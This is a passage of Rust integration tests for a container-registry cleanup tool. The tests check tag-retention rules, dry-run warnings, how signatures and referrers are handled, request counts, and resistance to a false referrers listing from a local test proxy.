    let path = dir.path().to_str().unwrap();
    let all_tags = || async { tags(&registry, &app).await };
    let before = all_tags().await;
    assert_eq!(before.len(), 11, "{before:?}");

    // The prefix pattern: anchored at both ends, it keeps nothing. The dry run warns in the
    // report, the summary and the log; with --strict it fails (for CI).
    write_job("enforce", r"^v\d");
    let warning = format!(
        r"rule 0 keepTags '^v\d' matches no tag of {app}, which loses 11 digests (keepTags is anchored at both ends: it matches part of v1.0.0; '^v\d.*' would match it)"
    );
    let out = driftless(
        &config,
        &[
            "jobs",
            "run",
            "release",
            "--path",
            path,
            "--dry-run",
            "--strict",
            "-o",
            "json",
        ],
    );
    let said = support::text(&out);
    assert_eq!(out.status.code(), Some(2), "{said}");
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["run"]["outcome"], "failed");
    let message = report["run"]["message"].as_str().unwrap();
    assert!(
        message.contains(&format!(
            r"warning: rule 0 keepTags '^v\d' keeps nothing in {app} (--strict: the run fails)"
        )),
        "{message}"
    );
    assert_eq!(report["report"]["warnings"][0]["repository"], app.as_str());
    assert_eq!(report["report"]["warnings"][0]["loses"], 11);
    assert!(
        String::from_utf8_lossy(&out.stderr).contains(&warning),
        "the log has it: {said}"
    );
    // The rule kept the two newest builds only; the figures say so.
    assert_eq!(report["run"]["figures"]["keptByRule0"], 2, "{report:#}");
    assert_eq!(report["run"]["figures"]["warnings"], 1);
    // Without --strict the dry run succeeds, and the human report shows the warning on top.
    let out = driftless(
        &config,
        &["jobs", "run", "release", "--path", path, "--dry-run"],
    );
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(out.status.success(), "{}", support::text(&out));
    assert!(text.contains(&format!("warning: {warning}")), "{text}");
    assert!(
        text.contains(r"rule 0 (")
            && text.contains(r"keepTags '^v\d'): kept 2 digests in 1 repositories"),
        "{text}"
    );
    assert_eq!(all_tags().await, before, "dry runs delete nothing");
    // The job's status (jobs list: last run, figures, message) shows it too.
    let out = driftless(&config, &["jobs", "list", "--path", path, "-o", "json"]);
    let list: Value = serde_json::from_slice(&out.stdout).unwrap();
    let last = &list[0]["lastRun"];
    assert_eq!(last["figures"]["keptByRule0"], 2, "{last:#}");
    assert!(
        last["message"].as_str().unwrap().contains("keeps nothing"),
        "{last:#}"
    );

    // The intended pattern, enforced.
    write_job("enforce", r"v\d.*");
    let out = driftless(
        &config,
        &["jobs", "run", "release", "--path", path, "-o", "json"],
    );
    let said = support::text(&out);
    assert!(out.status.success(), "{said}");
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        report["report"]["warnings"].is_null(),
        "no warning: {report:#}"
    );
    let mut want = vec![
        "build-2".to_owned(),
        "build-4".to_owned(),
        "build-5".to_owned(),
        accessory_tag(&index, ""),
        accessory_tag(&index, ".sig"),
        "tmp-1".to_owned(),
        "v1.0.0".to_owned(),
    ];
    want.sort();
    assert_eq!(all_tags().await, want);
    for (what, d) in [
        ("the release index", &index),
        ("its children", &amd64),
        ("its children", &arm64),
        ("its signature", &sig_index),
        ("its OCI referrer", &ref_index),
        ("its referrers index", &refs_of_index),
        ("build-2, in use", &builds[1].0),
        ("build-4", &builds[3].0),
        ("build-5", &builds[4].0),
    ] {
        assert!(exists(&registry, &app, d).await, "{what} kept");
    }
    for (what, d) in [
        ("build-1", &builds[0].0),
        ("build-3", &builds[2].0),
        ("the signature of build-1", &sig_build1),
        ("the referrer of build-3", &ref_build3),
        ("build-3's referrers index", &refs_of_build3),
    ] {
        assert!(!exists(&registry, &app, d).await, "{what} deleted");
    }
    let decisions = report["report"]["repositories"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["repository"] == app.as_str())
        .unwrap()["decisions"]
        .as_array()
        .unwrap()
        .clone();
    let reasons = |d: &str| {
        decisions
            .iter()
            .find(|x| x["digest"] == d)
            .map(|x| x["reasons"].clone())
            .unwrap_or_default()
    };
    assert_eq!(
        reasons(&sig_index),
        json!([{"reason": "accessory", "kind": "signature", "subject": index}])
    );
    assert!(
        reasons(&ref_index)
            .as_array()
            .unwrap()
            .contains(&json!({"reason": "accessory", "kind": "signature", "subject": index})),
        "{}",
        reasons(&ref_index)
    );
    // The human report gives the reason.
    let out = driftless(
        &config,
        &["jobs", "run", "release", "--path", path, "--dry-run"],
    );
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(
        text.lines()
            .any(|l| l.contains(&accessory_tag(&index, ".sig"))
                && l.ends_with(&format!(": signature of kept {}", &index[..19]))),
        "{text}"
    );
}

/// Where the registry serves the referrers API, the referrers of what the plan deletes are asked
/// for and go with their subject; a listing is believed only where the referrer's own manifest
/// names the subject. The API is put in front of the real registry by a proxy (distribution
/// v3 does not serve it; the referrers themselves are real manifests with a `subject`), which
/// also lies: it lists an unrelated untagged image as a referrer of the deleted build.
#[tokio::test]
async fn referrers_the_api_lists_go_with_their_subject_and_a_false_listing_changes_nothing() {
    let env = TestEnv::get();
    let url = env.registry_url().to_owned();
    let repo = format!("{}/app", unique_name("refapi"));
    let registry = Client::new(&url, Credentials::default()).unwrap();
    let (old, old_manifest) = push_image(&url, &repo, "build-1", "2025-01-01T00:00:00Z", "1").await;
    let (new, _) = push_image(&url, &repo, "build-2", "2025-02-01T00:00:00Z", "2").await;
    // An untagged attestation of build-1 (no referrers index: only the API finds it).
    let (attestation, _) = push_referrer(
        &url,
        &repo,
        (&old, OCI_MANIFEST, old_manifest.len()),
        "application/vnd.in-toto+json",
        "old",
    )
    .await;
    // An unrelated image, untagged: the rules keep untagged images, so it stays unless a false
    // link made it follow build-1.
    let (unrelated, _) =
        push_image(&url, &repo, "scratch", "2025-01-15T00:00:00Z", "unrelated").await;
    registry.delete_tag(&repo, "scratch").await.unwrap();

    let upstream = url.clone();
    let (lister, subject) = (format!("/v2/{repo}/referrers/"), old.clone());
    let listed = json!({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": [
        {"mediaType": OCI_MANIFEST, "digest": attestation, "size": 1, "artifactType": "application/vnd.in-toto+json"},
        {"mediaType": OCI_MANIFEST, "digest": unrelated, "size": 1, "artifactType": "application/vnd.in-toto+json"}]});
    let http = reqwest::Client::new();
    let asked = Arc::new(std::sync::atomic::AtomicU32::new(0));
    let counter = asked.clone();
    let app = axum::Router::new().fallback(move |req: axum::extract::Request| {
        let (upstream, lister, subject, listed, http, counter) = (
            upstream.clone(),
            lister.clone(),
            subject.clone(),
            listed.clone(),
            http.clone(),
            counter.clone(),
        );
        async move {
            let path = req
                .uri()
                .path_and_query()
                .map(|p| p.as_str().to_owned())
                .unwrap_or_default();
            if let Some(digest) = path.strip_prefix(&lister) {
                counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
                let body = if digest == subject {
                    listed
                } else {
                    json!({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": []})
                };
                return axum::response::Response::builder()
                    .status(200)
                    .header("content-type", OCI_INDEX)
                    .body(axum::body::Body::from(body.to_string()))
                    .unwrap();
            }
            let mut out = http.request(req.method().clone(), format!("{upstream}{path}"));
            for (k, v) in req.headers() {
                if k != "host" {
                    out = out.header(k, v);
                }
            }
            let body = axum::body::to_bytes(req.into_body(), 1 << 20)
                .await
                .unwrap();
            let resp = out.body(body).send().await.unwrap();
            let mut builder = axum::response::Response::builder().status(resp.status().as_u16());
            for (k, v) in resp.headers() {
                builder = builder.header(k, v);
            }
            builder
                .body(axum::body::Body::from(resp.bytes().await.unwrap()))
                .unwrap()
        }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy = format!("http://{}", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });

    let dir = tempfile::tempdir().unwrap();
    let job = job(
        "refapi",
        json!({"schedule": "@daily", "mode": "enforce", "registry": {"url": proxy},
            "protect": {"cluster": false, "desired": false},
            "rules": [{"repositories": repo, "keepLast": 1}]}),
    );
    let inputs = Inputs {
        cluster: None,
        desired: &[],
        credentials: &driftless::credentials::Credentials::default(),
        state_dir: dir.path(),
        commands: &HostCommands::new(),
        strict: false,
    };
    let mut report = image_cleanup::run(&job, spec(&job), &inputs, false)
        .await
        .unwrap();
    // Only this test's repository: others on the shared registry may change under the scan.
    report.repositories.retain(|r| r.repository == repo);
    let text = report.text();
    assert!(report.repositories[0].error.is_none(), "{text}");
    assert!(!exists(&registry, &repo, &old).await, "build-1 deleted");
    assert!(
        !exists(&registry, &repo, &attestation).await,
        "its attestation, found through the API, deleted with it: {text}"
    );
    assert!(
        exists(&registry, &repo, &unrelated).await,
        "the falsely listed image stays: {text}"
    );
    assert!(exists(&registry, &repo, &new).await);
    assert!(
        text.contains(&format!("attestation of {} (deleted with it)", &old[..19])),
        "{text}"
    );
    assert!(asked.load(std::sync::atomic::Ordering::SeqCst) >= 1);
}

/// Planning reads each tag's manifest once (one `GET` gives digest and content) and reads no
/// image config when no rule uses age: on a registry of its own (so the catalog holds only this
/// test's repositories) a dry run of 3 repositories × 7 tags sends exactly one catalog request,
/// one tag list per repository and one manifest `GET` per tag, on the first run and on a repeat.
/// On the repeat every `GET` names the digest of the last run (`If-None-Match`) and the
/// registry confirms each tag unchanged (`304`) without sending a manifest; a tag pushed anew
/// after that is read and decided as what it is now: its old digest becomes untagged.
#[tokio::test]
async fn planning_sends_one_manifest_request_per_tag_and_no_config_reads_without_age_rules() {
    let env = TestEnv::get();
    let registry = PrivateRegistry::start(env.var("REGISTRY_BIN")).await;
    let (repos, tags_per_repo) = (3, 7);
    let mut v3 = String::new();
    for r in 0..repos {
        for t in 0..tags_per_repo {
            let (digest, _) = push_image(
                &registry.url,
                &format!("counted/r{r}"),
                &format!("v{t}"),
                "2025-01-01T00:00:00Z",
                &format!("{r}-{t}"),
            )
            .await;
            if (r, t) == (0, 3) {
                v3 = digest;
            }
        }
    }
    let dir = tempfile::tempdir().unwrap();
    let job = job(
        "counted",
        json!({"schedule": "@daily", "registry": {"url": registry.url},
            "protect": {"cluster": false, "desired": false},
            "rules": [{"repositories": "counted/*", "keepTags": "v\\d+", "untagged": "delete"}]}),
    );
    let inputs = Inputs {
        cluster: None,
        desired: &[],
        credentials: &driftless::credentials::Credentials::default(),
        state_dir: dir.path(),
        commands: &HostCommands::new(),
        strict: false,
    };
    let all = (repos * tags_per_repo) as u64;
    for (run, unchanged) in [("first", 0), ("repeat", all)] {
        let report = image_cleanup::run(&job, spec(&job), &inputs, true)
            .await
            .unwrap();
        assert!(report.ok(), "{run}: {}", report.text());
        assert_eq!(report.totals.tags, all, "{run}");
        assert_eq!(report.totals.to_delete, 0, "{run}");
        assert_eq!(
            report.totals.requests,
            1 + repos as u64 + all,
            "{run}: {}",
            report.summary()
        );
        assert_eq!(report.totals.tags_unchanged, unchanged, "{run}");
    }
    // counted/r0:v3 pushed anew: read (200), and its old digest, untagged now, deleted by the
    // plan.
    let (moved, _) = push_image(
        &registry.url,
        "counted/r0",
        "v3",
        "2025-01-02T00:00:00Z",
        "moved",
    )
    .await;
    assert_ne!(moved, v3);
    let report = image_cleanup::run(&job, spec(&job), &inputs, true)
        .await
        .unwrap();
    assert!(report.ok(), "{}", report.text());
    assert_eq!(report.totals.tags_unchanged, all - 1);
    // + the `HEAD` that finds the old digest still there, + the referrers of what is deleted.
    assert_eq!(report.totals.requests, 1 + repos as u64 + all + 2);
    let r0 = report
        .repositories
        .iter()
        .find(|r| r.repository == "counted/r0")
        .unwrap();
    let deleted: Vec<&str> = r0
        .decisions
        .iter()
        .filter(|d| matches!(d, RetentionDecision::Delete { .. }))
        .map(|d| d.digest())
        .collect();
    assert_eq!(deleted, [v3.as_str()], "{}", report.text());
    assert!(
        r0.decisions
            .iter()
            .any(|d| d.digest() == moved && !matches!(d, RetentionDecision::Delete { .. })),
        "the new v3 is kept: {}",
        report.text()
    );
}
